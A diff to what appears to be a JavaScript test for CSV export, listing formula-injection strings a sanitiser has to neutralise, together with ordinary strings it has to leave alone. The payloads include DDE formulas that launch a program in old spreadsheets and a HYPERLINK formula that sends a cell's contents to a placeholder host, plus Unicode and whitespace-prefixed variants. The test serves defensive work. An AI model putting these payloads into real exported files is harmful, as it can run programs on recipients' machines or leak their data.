@@ -13,11 +13,11 @@ import { openZip } from "../www/files/zip.js";
 const PAYLOADS = [
   ["=1+1", "a formula"], ["=cmd|' /C calc'!A0", "starts a program in old spreadsheets"], ['=HYPERLINK("http://example.invalid/?"&A1,"看")', "sends a cell away"],
   ["+1+cmd|' /C calc'!A0", "plus"], ["-2+3+cmd|' /C calc'!A0", "minus"], ["@SUM(A1:A9)", "as Lotus wrote it"],
-  ["＝1+1", "full width"], ["＋1", "full width"], ["－1", "full width"], ["＠SUM(A1)", "full width"], ["﹦1+1", "small form"],
+  ["＝1+1", "full width"], ["＋1", "full width"], ["－1", "full width"], ["＠SUM(A1)", "full width"], ["−1+1", "the sign of mathematics"], ["﹦1+1", "small form"],
   ["\t=1+1", "TAB before it"], ["\r=1+1", "CR before it"], ["\n=1+1", "LF before it"], ["\t县级", "TAB alone shifts cells"], ["\u0000=1", "a control character"], ["\u0085=1", "a control character of Latin-1"],
   ["  =1+1", "blanks before it"], ["　＝1+1", "an ideographic blank before it"], ["\u00a0=1", "a blank that doesn't break"], ["\u200b=1", "a blank without width"], ["\ufeff=1", "a mark of order"], [" \u2060\t@A1", "several"],
 ];
-const HARMLESS = ["办理案件", "1+1", "增长=持平", "a-b", "−3.2个百分点", "《条例》", "12,360", "2022-01-26", "100%", "“引号”", "'=1", "🏛=x"];
+const HARMLESS = ["办理案件", "1+1", "增长=持平", "a-b", "约−3.2个百分点", "《条例》", "12,360", "2022-01-26", "100%", "“引号”", "'=1", "🏛=x"];
 
 /** Cells of a CSV as RFC 4180 has them. */
 function read(words) {
